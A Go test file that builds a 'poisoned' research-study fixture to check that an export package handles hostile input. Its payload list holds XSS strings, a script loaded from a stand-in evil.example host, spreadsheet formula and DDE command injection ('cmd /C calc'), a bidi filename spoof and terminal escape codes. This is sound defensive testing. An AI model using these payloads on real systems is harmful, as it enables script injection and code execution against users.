package export

import (
	"bytes"
	"crypto/sha256"
	"reflect"
	"strings"
	"testing"

	"personas/research"
)

// payloads are what somebody might write into a name, a label or an answer to
// take over the page, the spreadsheet, the terminal or the wiki that shows it.
var payloads = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style></title><script src=//evil.example></script>`,
	`javascript:alert(1)`, `[click](javascript:alert(1))`, `![x](http://evil.example/a.png)`, "`code` **bold** _it_ ~~gone~~",
	"# heading", `=HYPERLINK("http://evil.example","x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "evil\u202Egnp.exe\u2066x",
	"esc\x1b[31mred\x7f", "{{.Draft}} {{template \"sheet\"}}", "--> <!-- x", "&lt;b&gt; &amp; &#60;i&#62;", "| a | b |\n|---|---|",
	"' onmouseover='alert(1)", "see https://evil.example and www.evil.example", "$x^2$", "<details open ontoggle=alert(1)>", "]]><svg onload=alert(1)>",
	"1. first\n2. second", "\t=1+1", "“quoted” ‘twice’", "عربي ثم English", "https://evil.example/?a=1&b=<c>",
}

// hostile is the small study with a payload in every word that somebody else
// could have written, and a document whose every turn is one.
func hostile(t testing.TB) *research.Edition { return poisoned(t, pdpilot(t, passages)) }

func poisoned(t testing.TB, ed *research.Edition) *research.Edition {
	t.Helper()
	hostileDocument(t, ed)
	next := 0
	poison(reflect.ValueOf(ed).Elem(), &next)
	ed.Rejections["<b>reason</b>"] = 3
	ed.Participants[0].Attributes = map[string]string{"role": payloads[1], payloads[0]: payloads[2]}
	return ed
}

// hostileDocument adds an interview that holds nothing but payloads, its quotes a
// theme, one of them reported by staff.
func hostileDocument(t testing.TB, ed *research.Edition) {
	t.Helper()
	var text []byte
	d := research.Document{Title: "hostile", Kind: research.KindNote, Language: "en"}
	who := research.ParticipantRefByKey(ed.Study.Ref, "hostile")
	for i, p := range payloads {
		d.Turns = append(d.Turns, research.Turn{Position: i, Span: research.Span{Start: len(text), End: len(text) + len(p)}, Speaker: p,
			Participant: who, Role: research.RoleParticipant, Voice: research.VoiceFirstHand, Line: i + 1})
		text = append(append(text, p...), '\n')
	}
	d.Turns[3].Voice, d.Turns[3].Author = research.VoiceReported, "Sam <b>from sales</b>"
	d.Ref, d.Text = research.DocumentRefByText(ed.Study.Ref, text, 0), text
	th := research.Theme{InVivo: true, Participants: 1, LargestVoice: 1}
	for i, turn := range d.Turns {
		q := research.Quote{Ref: research.QuoteRef(d.Ref, sha256.Sum256(text), turn.Span), Document: d.Ref, Participant: who, Turn: i, Span: turn.Span,
			Text: string(text[turn.Span.Start:turn.Span.End]), Stance: good, Voice: turn.Voice, Method: research.MethodRules}
		ed.Quotes = append(ed.Quotes, q)
		th.Members = append(th.Members, research.Member{Quote: q.Ref})
	}
	th.Exemplars = []research.Ref{th.Members[0].Quote, th.Members[3].Quote}
	th.Ref = research.ThemeRef(ed.Study.Ref, th.Members[0].Quote)
	ed.Documents = append(ed.Documents, d)
	ed.Participants = append(ed.Participants, research.Participant{Ref: who, Role: research.RoleParticipant})
	ed.Themes = append(ed.Themes, th)
	ed.Matrix = append(ed.Matrix, research.MatrixRow{Participant: who, Cells: []research.MatrixCell{{Theme: th.Ref, Quotes: len(payloads)}}})
	sample := &ed.Personas[1]
	sample.Members = append(sample.Members, research.CandidateMember{Participant: who})
	c := research.Claim{Ref: research.ClaimRef(sample.Ref, research.FacetGoal, "x"), Facet: research.FacetGoal, Theme: th.Ref, State: research.ClaimNeedsWording,
		Citations: []research.Citation{{Quote: th.Members[1].Quote, Relation: research.Supports}, {Quote: th.Members[3].Quote, Relation: research.Supports}, {Quote: th.Members[2].Quote, Relation: research.Contradicts}},
		Support:   research.Support{Participants: 99, Of: 100, Quotes: 2, Contradictions: 1}, Confidence: research.Anecdotal}
	sample.Claims = append(sample.Claims, c)
	sample.Voices = append(sample.Voices, th.Members[0].Quote)
}

// poison walks everything and appends a payload to each plain string: references,
// kinds and the like have types of their own and are the program's words, and a
// quote's text is its document's.
func poison(v reflect.Value, next *int) {
	switch v.Kind() {
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type() == reflect.TypeFor[research.Quote]() && v.Type().Field(i).Name == "Text" || !v.Field(i).CanSet() {
				continue
			}
			poison(v.Field(i), next)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), next)
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() != reflect.Uint8 {
			for i := range v.Len() {
				poison(v.Index(i), next)
			}
		}
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(payloads[*next%len(payloads)] + strings.TrimSpace(" "+v.String()) + "\x00")
			*next++
		}
	}
}

func TestHostileFixture(t *testing.T) {
	ed := hostile(t)
	if !bytes.Contains([]byte(ed.Study.Name+ed.Themes[0].Label+ed.Documents[0].Title), []byte("\x00")) {
		t.Fatal("the fixture is not poisoned")
	}
}
